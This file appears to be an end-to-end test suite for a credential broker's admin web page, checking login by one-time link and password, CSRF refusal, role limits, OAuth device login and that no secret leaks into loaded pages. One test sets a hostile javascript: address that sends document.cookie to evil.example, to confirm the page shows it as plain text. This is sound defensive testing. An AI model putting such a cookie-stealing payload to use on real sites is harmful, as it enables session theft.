// The admin page in a real headless Chromium (docs/spec.md §16): one broker bound to 0.0.0.0 (so the
// page is also served over TLS on its port), reached only at 127.0.0.1. Logs in by one-time
// link and by password over TLS, checks what the page shows and that no secret is in anything
// it loaded, resets a mark from the page, and refuses a change without the CSRF token.
import { createHash, X509Certificate } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { connect } from "node:tls";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
import { Agent, ProxyAgent, request } from "undici";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  type BrokerProcess,
  CLI,
  cliAsync,
  findSecrets,
  outputs,
  startBroker,
  tempHome,
  writeConfig,
} from "../helpers/broker.js";
import { AUTH_HOST, type FakeOAuth, installFakeOAuth } from "../helpers/fake-oauth.js";
import { type FakeUpstream, startUpstream } from "../helpers/upstream.js";

const KEY_A = "sk-admin-page-real-A-0f1e2d3c4b5a69788796a5b4c3d2e1f0";
const KEY_B = "sk-admin-page-real-B-1a2b3c4d5e6f708192a3b4c5d6e7f809";
const AGENT_TOKEN = "agent-token-5d1c9e7b3a2f4680";
const BOSS_TOKEN = "boss-token-8e2f6a0c4d1b3957";
const OPS_TOKEN = "ops-token-3c7a1e9b5d2f4086";
const PASSWORD = "correct horse battery staple";

let upstream: FakeUpstream;
let oauth: FakeOAuth;
let broker: BrokerProcess;
let home: string;
let config: string;
let browser: Browser;
let adminToken: string;
let shots: string;
/** The agent client's placeholder for openai (what `keybroker env` gives it). */
let placeholder: string;
const bodies: { url: string; text: string }[] = [];

function rules(u: FakeUpstream): string {
  return `version: 1
listen: 0.0.0.0:0
upstream_ca: [${JSON.stringify(u.caPath)}]
resolve:
  "api.openai.com:443": "127.0.0.1:${u.port}"
  "${AUTH_HOST}:443": "127.0.0.1:${u.port}"
providers:
  openai:
    credentials: [KEY_A, KEY_B]
    policy:
      - approve: { method: POST, path: "/v1/embeddings" }
  codex-oauth:
    hosts: [chat.oauth.test]
    oauth:
      issuer: https://${AUTH_HOST}
      client_id: app_1
      scopes: [openid, offline_access]
clients:
  agent:
    token: AGENT_TOKEN
    providers: "*"
  boss:
    token: BOSS_TOKEN
    role: owner
  ops:
    token: OPS_TOKEN
    role: admin
`;
}

function cli(args: string[]) {
  return cliAsync([...args, "--home", home, "--config", config], { env: { AGENT_TOKEN } });
}

/** A page that keeps every answer's body, for the secret scan. */
async function newPage(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  page.setDefaultTimeout(8000);
  page.on("response", (res) => {
    // Redirects have no body to read.
    if (res.status() >= 300 && res.status() < 400) return;
    res
      .text()
      .then((text) => bodies.push({ url: res.url(), text }))
      .catch(() => {});
  });
  return page;
}

/** The running broker's status, from its admin API (what `status --json` prints). */
async function statusJson(): Promise<{
  providers: { id: string; credentials: { id: string; state: string }[] }[];
}> {
  const res = await request(`http://127.0.0.1:${broker.port}/__keybroker/admin/status`, {
    headers: { authorization: `Bearer ${adminToken}` },
  });
  return (await res.body.json()) as never;
}

async function states(): Promise<Record<string, string>> {
  const s = await statusJson();
  return Object.fromEntries(
    s.providers.find((p) => p.id === "openai")!.credentials.map((c) => [c.id, c.state]),
  );
}

async function chat(
  agent: ProxyAgent,
  path = "/v1/chat/completions",
  body: unknown = { model: "gpt-test", messages: [] },
): Promise<number> {
  const res = await request(`https://api.openai.com${path}`, {
    method: "POST",
    dispatcher: agent,
    headers: { "content-type": "application/json", authorization: `Bearer ${placeholder}` },
    body: JSON.stringify(body),
  });
  await res.body.text();
  return res.statusCode;
}

/** The SPKI hash Chromium's --ignore-certificate-errors-spki-list takes, after checking the chain ourselves. */
async function leafSpki(port: number, caPem: string): Promise<string> {
  const socket = connect({ host: "127.0.0.1", port, ca: caPem, servername: "" });
  await new Promise<void>((resolve, reject) => {
    socket.once("secureConnect", resolve);
    socket.once("error", reject);
  });
  // Verified against the broker's CA, for the address 127.0.0.1 (node checks the IP SAN).
  expect(socket.authorized).toBe(true);
  const cert = new X509Certificate(socket.getPeerX509Certificate()!.raw);
  socket.destroy();
  expect(cert.checkIP("127.0.0.1")).toBe("127.0.0.1");
  expect(cert.verify(new X509Certificate(caPem).publicKey)).toBe(true);
  const spki = cert.publicKey.export({ type: "spki", format: "der" });
  return createHash("sha256").update(spki).digest("base64");
}

beforeAll(async () => {
  upstream = await startUpstream();
  oauth = installFakeOAuth(upstream);
  upstream.routes.set("POST /v1/embeddings", (_req, res) => {
    res.writeHead(200, { "content-type": "application/json" });
    res.end('{"object":"list","data":[]}');
  });
  home = tempHome();
  shots = join(mkdtempSync(join(tmpdir(), "kb-admin-page-")), "screens");
  mkdirSync(shots);
  config = writeConfig(tempHome(), rules(upstream));
  // KEY_A arrives marked: the page shows it and resets it.
  mkdirSync(join(home, "state"), { recursive: true, mode: 0o700 });
  writeFileSync(
    join(home, "state", "pools.json"),
    JSON.stringify({
      version: 1,
      providers: {
        openai: {
          KEY_A: {
            state: "usage_limit_reached",
            until: Date.now() + 3_600_000,
            reason: "429 insufficient_quota",
            requests: 3,
            marks: 1,
          },
        },
      },
    }),
    { mode: 0o600 },
  );
  broker = await startBroker({
    home,
    config,
    env: { KEY_A, KEY_B, AGENT_TOKEN, BOSS_TOKEN, OPS_TOKEN },
  });
  adminToken = readFileSync(join(home, "admin.token"), "utf8").trim();
  const env = await cli(["env", "--client", "agent", "--format", "json"]);
  expect(env.status, env.stderr).toBe(0);
  placeholder = (JSON.parse(env.stdout) as Record<string, string>).OPENAI_API_KEY!;
  const spki = await leafSpki(broker.port, readFileSync(broker.caPath, "utf8"));
  // launch() gives the browser a fresh, temporary user-data-dir of its own.
  browser = await chromium.launch({
    executablePath: "/usr/bin/chromium",
    args: [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      `--ignore-certificate-errors-spki-list=${spki}`,
    ],
  });
});

afterAll(async () => {
  await browser?.close();
  await broker?.stop();
  await upstream?.close();
  const secrets = [KEY_A, KEY_B, AGENT_TOKEN, BOSS_TOKEN, OPS_TOKEN, adminToken, PASSWORD];
  // No inline script in any page: the one script is a file.
  const pages = bodies.filter((b) => b.text.startsWith("<!doctype html>"));
  expect(pages.length).toBeGreaterThan(5);
  for (const b of pages) expect(b.text, b.url).not.toMatch(/<script(?![^>]*\ssrc=)|\son[a-z]+=|style=/i);
  // Nothing the page loaded holds a secret; the home holds only the admin token, in its own file.
  expect(
    findSecrets(
      secrets,
      [],
      bodies.map((b) => b.text),
    ),
  ).toEqual([]);
  expect(
    findSecrets(
      secrets.filter((s) => s !== adminToken),
      [home],
      [],
    ),
  ).toEqual([]);
  // `env` prints the agent's proxy URL with its token, as it should: the rest may not appear.
  expect(findSecrets([KEY_A, KEY_B, BOSS_TOKEN, adminToken, PASSWORD], [], outputs)).toEqual([]);
  console.log(`admin page screenshots: ${shots}`);
});

describe("admin page", () => {
  it("logs in by one-time link, shows providers and credentials live, resets a mark, refuses a change without CSRF", {
    timeout: 90_000,
  }, async () => {
    const agent = new ProxyAgent({
      uri: broker.url.replace("0.0.0.0", "127.0.0.1"),
      token: `Basic ${Buffer.from(`agent:${AGENT_TOKEN}`).toString("base64")}`,
      requestTls: { ca: readFileSync(broker.caPath, "utf8") },
    });
    // The proxy protocol keeps working on the port that also answers TLS.
    expect(await chat(agent)).toBe(200);

    const link = await cli(["admin"]);
    expect(link.status, link.stderr).toBe(0);
    const url = /(http:\/\/127\.0\.0\.1:\d+\/admin\/login\?code=\S+)/.exec(link.stdout)?.[1];
    expect(url, link.stdout).toBeDefined();

    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await newPage(context);
    await page.goto(url!);
    await page.getByRole("button", { name: "Log in" }).click();
    await page.waitForURL(/\/admin\/$/);
    await expect(page.locator("h1").textContent()).resolves.toBe("Overview");
    const cookie = (await context.cookies()).find((c) => c.name.startsWith("kb_admin"))!;
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict", secure: false, path: "/admin" });

    // The link works once.
    const again = await browser.newContext();
    const other = await newPage(again);
    await other.goto(url!);
    await other.getByRole("button", { name: "Log in" }).click();
    await expect(other.locator(".flash.error").textContent()).resolves.toMatch(/used or expired/);
    await again.close();

    // Providers and credentials: ids, fingerprints, states; never a value.
    const card = page.locator("#provider-openai");
    await expect(card.locator("tr", { hasText: "KEY_A" }).textContent()).resolves.toMatch(/rate limited/);
    await expect(card.locator("tr", { hasText: "KEY_B" }).textContent()).resolves.toMatch(
      /env.*sha256:.*ok/s,
    );
    await expect(page.locator(".fact", { hasText: "CA fingerprint" }).textContent()).resolves.toMatch(
      /([0-9A-F]{2}:){31}[0-9A-F]{2}/,
    );

    // Live: a request made now shows up without a reload.
    const before = Number(await card.locator("tr", { hasText: "KEY_B" }).locator("td.num").textContent());
    expect(await chat(agent)).toBe(200);
    const keyB = card.locator("tr", { hasText: "KEY_B" }).locator("td.num");
    await expect
      .poll(async () => Number(await keyB.textContent()), { timeout: 8000 })
      .toBeGreaterThan(before);
    await page.screenshot({ path: join(shots, "overview.png"), fullPage: true });

    // A change with the cookie alone is refused, and so is one with the page secret but without
    // the page's CSRF token: neither changes anything.
    const forged = await context.request.post(new URL("/admin/do/reset", url).href, {
      form: { provider: "openai", credential: "KEY_A" },
      maxRedirects: 0,
    });
    expect(forged.status()).toBe(403);
    expect(await forged.text()).toMatch(/only from the admin page&#39;s own script; nothing was done/);
    const noCsrf = await context.request.post(new URL("/admin/do/reset", url).href, {
      form: { provider: "openai", credential: "KEY_A" },
      headers: { "x-keybroker-session": (await page.evaluate('localStorage.getItem("kb_admin")')) as string },
      maxRedirects: 0,
    });
    expect(noCsrf.status()).toBe(403);
    expect(await noCsrf.text()).toMatch(/CSRF/);
    expect((await states()).KEY_A).toBe("usage_limit_reached");

    // Reset from the page.
    await card.locator("tr", { hasText: "KEY_A" }).getByRole("button", { name: "Reset mark" }).click();
    await page.waitForURL(/\/admin\/$/);
    await expect(page.locator(".flash.ok").textContent()).resolves.toMatch(/cleared KEY_A/);
    await expect(card.locator("tr", { hasText: "KEY_A" }).textContent()).resolves.toMatch(/\bok\b/);
    expect((await states()).KEY_A).toBe("ok");

    // A device-flow OAuth login from the page: it shows the code; once approved, the login is used.
    await page.getByRole("navigation").getByRole("link", { name: "Actions" }).click();
    await page.getByRole("button", { name: "Start login" }).click();
    await expect(page.locator(".flash.ok").textContent()).resolves.toMatch(/Login to codex-oauth started/);
    const code = (await page.locator(".device .code").textContent())!;
    expect(await page.locator(".device a").getAttribute("href")).toBe(
      `https://${AUTH_HOST}/activate?user_code=${code}`,
    );
    await page.screenshot({ path: join(shots, "actions.png"), fullPage: true });
    oauth.approve(code);
    await page.locator(".device .badge.ok").waitFor({ timeout: 15_000 });
    await page.goto(new URL("/admin/", url).href);
    await expect(
      page.locator("#provider-codex-oauth tr", { hasText: "default" }).textContent(),
    ).resolves.toMatch(/oauth.*sha256:.*ok.*in \d+m/s);
    // And removed from the page again.
    await page.goto(new URL("/admin/actions", url).href);
    await page.getByRole("combobox", { name: "Login" }).selectOption("codex-oauth/default");
    await page.getByRole("button", { name: "Remove" }).click();
    await expect(page.locator(".flash.ok").textContent()).resolves.toMatch(
      /Removed the login codex-oauth\/default/,
    );

    // A held request appears on the Approvals view by itself; approving it lets the client through.
    await page.getByRole("navigation").getByRole("link", { name: "Approvals" }).click();
    await page.waitForURL(/\/admin\/approvals$/);
    const sentBefore = upstream.received.length;
    const held = chat(agent, "/v1/embeddings", { input: `hello approval, key ${KEY_A}` });
    const approval = page.locator(".approval");
    await approval.waitFor({ timeout: 15_000 });
    await expect(approval.locator(".path").textContent()).resolves.toBe("api.openai.com/v1/embeddings");
    const preview = (await approval.locator(".preview").textContent())!;
    expect(preview).toContain("hello approval, key ");
    expect(preview).not.toContain(KEY_A);
    await expect(approval.locator(".meta").textContent()).resolves.toMatch(/agent → openai.*\d+s left/s);
    expect(upstream.received.length).toBe(sentBefore); // nothing went upstream while held
    await page.screenshot({ path: join(shots, "approvals.png"), fullPage: true });
    await approval.getByRole("button", { name: "Approve" }).click();
    await expect(page.locator(".flash.ok").textContent()).resolves.toMatch(/^Approved [0-9a-f]{8}\.$/);
    expect(await held).toBe(200);
    expect(upstream.received.at(-1)!.url).toBe("/v1/embeddings");

    // The other views, each screenshotted.
    for (const view of ["usage"]) {
      await page
        .getByRole("navigation")
        .getByRole("link", { name: new RegExp(view, "i") })
        .click();
      await page.waitForURL(new RegExp(`/admin/${view}$`));
      await page.screenshot({ path: join(shots, `${view}.png`), fullPage: true });
    }
    const usage = await page.goto(new URL("/admin/usage", url).href);
    expect(usage!.headers()["content-security-policy"]).toMatch(
      /default-src 'none'; script-src 'self'; style-src 'self'/,
    );
    await expect(page.locator("table.usage").textContent()).resolves.toMatch(/agent\s*openai\s*3/);
    await page.goto(new URL("/admin/audit?decision=admin_login", url).href);
    await expect(page.locator("table.audit").textContent()).resolves.toMatch(/admin_login.*one-time link/s);
    await page.goto(new URL("/admin/audit", url).href);
    await expect(page.locator("ul.chains").textContent()).resolves.toMatch(/verified.*Audit chain/s);
    await page.screenshot({ path: join(shots, "audit.png"), fullPage: true });

    // On a phone.
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(new URL("/admin/", url).href);
    await page.screenshot({ path: join(shots, "overview-phone.png"), fullPage: true });
    expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(390);

    await page.getByRole("button", { name: "Log out" }).click();
    await page.waitForURL(/\/admin\/login$/);
    await context.close();
    await agent.close();
  });

  it("a device login whose server gives a javascript: verification address shows it as text, not a link", {
    timeout: 60_000,
  }, async () => {
    const hostile = "javascript:fetch('//evil.example/'+document.cookie)";
    oauth.deviceAnswer = { verification_uri: hostile, verification_uri_complete: hostile };
    const link = await cli(["admin"]);
    const url = /(http:\/\/127\.0\.0\.1:\d+\/admin\/login\?code=\S+)/.exec(link.stdout)?.[1];
    expect(url, link.stdout).toBeDefined();
    const context = await browser.newContext();
    const page = await newPage(context);
    await page.goto(url!);
    await page.getByRole("button", { name: "Log in" }).click();
    await page.waitForURL(/\/admin\/$/);
    await page.getByRole("navigation").getByRole("link", { name: "Actions" }).click();
    await page.getByRole("button", { name: "Start login" }).click();
    const card = page.locator(".device").first();
    await card.locator(".code").waitFor();
    expect(await page.locator(`[href^="javascript:"]`).count()).toBe(0);
    expect(await card.locator("a").count()).toBe(0);
    await expect(card.locator("code").textContent()).resolves.toBe(hostile);
    await expect(card.textContent()).resolves.toContain("not https: check it before you open it");
    oauth.deviceAnswer = {};
    await context.close();
  });

  it("off loopback: serves the page over TLS with a CA leaf, and a password logs in there", {
    timeout: 60_000,
  }, async () => {
    const short = await cliPassword("short");
    expect(short.status).toBe(1);
    expect(short.stderr).toMatch(/at least 10 characters.*nothing was changed/);
    const r = await cliPassword();
    expect(r.status, r.stderr).toBe(0);
    expect(statSync(join(home, "admin.password")).mode & 0o777).toBe(0o600);

    const base = `https://127.0.0.1:${broker.port}`;
    const context = await browser.newContext({ ignoreHTTPSErrors: false });
    const page = await newPage(context);
    // The root and the login page answer a form, never an error.
    const root = await page.goto(`${base}/`);
    expect(root!.status()).toBe(200);
    expect(page.url()).toBe(`${base}/admin/login`);
    await page.screenshot({ path: join(shots, "login.png") });

    await page.getByLabel("Password or admin token").fill("not the password");
    await page.getByRole("button", { name: "Log in" }).click();
    await expect(page.locator(".flash.error").textContent()).resolves.toMatch(/not right/);
    await page.getByLabel("Password or admin token").fill(PASSWORD);
    await page.getByRole("button", { name: "Log in" }).click();
    await page.waitForURL(`${base}/admin/`);
    await expect(page.locator("#provider-openai").textContent()).resolves.toMatch(/KEY_B/);
    const cookie = (await context.cookies()).find((c) => c.name.startsWith("kb_admin"))!;
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict", secure: true });
    await context.close();

    // An owner client's token logs in too (node's client, checking the chain against the CA).
    const tls = new Agent({ connect: { ca: readFileSync(broker.caPath, "utf8") } });
    const login = (secret: string) =>
      request(`${base}/admin/login`, {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({ secret }).toString(),
        dispatcher: tls,
      });
    const byToken = await login(BOSS_TOKEN);
    expect(await byToken.body.text()).toMatch(/data-session="[\w-]{43}"/);
    expect(byToken.statusCode).toBe(200);
    expect(String(byToken.headers["set-cookie"])).toMatch(/HttpOnly; SameSite=Strict; Max-Age=43200; Secure/);
    // An admin client's session may reset marks but not reload the rules (owners only).
    const byOps = await login(OPS_TOKEN);
    const opsSecret = /data-session="([^"]+)"/.exec(await byOps.body.text())![1]!;
    expect(byOps.statusCode).toBe(200);
    const opsCookie = String(byOps.headers["set-cookie"]).split(";")[0]!;
    const actions = await request(`${base}/admin/actions`, {
      headers: { cookie: opsCookie, "x-keybroker-session": opsSecret },
      dispatcher: tls,
    });
    const actionsPage = await actions.body.text();
    expect(actionsPage).toContain("Only an owner may do this.");
    const csrf = /name="csrf" value="([^"]+)"/.exec(actionsPage)![1]!;
    const change = (what: string) =>
      request(`${base}/admin/do/${what}`, {
        method: "POST",
        headers: {
          cookie: opsCookie,
          "x-keybroker-session": opsSecret,
          origin: base,
          "content-type": "application/x-www-form-urlencoded",
        },
        body: new URLSearchParams({ csrf, provider: "openai" }).toString(),
        dispatcher: tls,
      });
    const reload = await change("reload");
    expect(reload.statusCode).toBe(403);
    expect(await reload.body.text()).toMatch(/Only an owner may do this/);
    const reset = await change("reset");
    await reset.body.text();
    expect(reset.statusCode).toBe(303);
    // A user client's token does not.
    const byUser = await login(AGENT_TOKEN);
    expect(byUser.statusCode).toBe(401);
    expect(await byUser.body.text()).toMatch(/<form method="post" action="\/admin\/login"/);
    // Failed logins are limited per address; the answer is still the form.
    let last = 0;
    for (let i = 0; i < 5; i++) {
      const r = await login("wrong");
      last = r.statusCode;
      if (last === 429) {
        expect(await r.body.text()).toMatch(/Too many failed logins.*<form/s);
        break;
      }
      await r.body.text();
    }
    expect(last).toBe(429);
    await tls.close();

    const audit = readFileSync(join(home, "audit", "security.jsonl"), "utf8");
    for (const decision of ["admin_login", "admin_login_failed", "admin_logout"])
      expect(audit).toContain(`"decision":"${decision}"`);
    expect(audit).toMatch(/"decision":"admin_login".*by password as owner/);
    expect(audit).toMatch(/"client":"boss","reason":"from 127\.0\.0\.1 by client boss as owner"/);
  });
});

async function cliPassword(password = PASSWORD) {
  const { spawnSync } = await import("node:child_process");
  const r = spawnSync(process.execPath, [CLI, "admin", "password", "--home", home], {
    input: `${password}\n`,
    encoding: "utf8",
  });
  outputs.push(r.stdout, r.stderr);
  return r;
}
